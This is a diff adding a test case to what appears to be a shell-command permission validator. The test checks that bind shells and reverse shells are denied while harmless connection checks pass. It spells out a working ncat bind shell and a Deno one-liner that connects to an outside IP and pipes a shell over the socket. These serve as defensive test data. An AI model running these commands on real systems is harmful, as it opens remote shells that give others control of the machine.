@@ -327,3 +327,15 @@ test('MCP moves read as mv, MCP container runs with host grants, SSM commands ru
   );
   expectExec("for id in $(svc pending --json | jq -r '.[].id'); do node ~/svc/bin/svc.js approve $id; done", 'deny');
 });
+
+test('bind shells through ncat -c and Deno sockets piped into a shell are reverse shells; a port check is not', () => {
+  expectExec("ncat -l 4444 -k -c 'bash -i'", 'deny');
+  expectExec(
+    'deno eval \'const c = await Deno.connect({hostname:"203.0.113.9",port:443}); const p = new Deno.Command("sh",{stdin:"piped",stdout:"piped"}).spawn(); c.readable.pipeTo(p.stdin); p.stdout.pipeTo(c.writable)\'',
+    'deny',
+  );
+  expectPasses(
+    'deno eval \'const c = await Deno.connect({hostname:"localhost",port:5432}); console.log("ok"); c.close()\'',
+  );
+  expectPasses("python3 -c \"import os; os.environ['SERVICE_NAME']='api'; os.system('make')\"");
+});
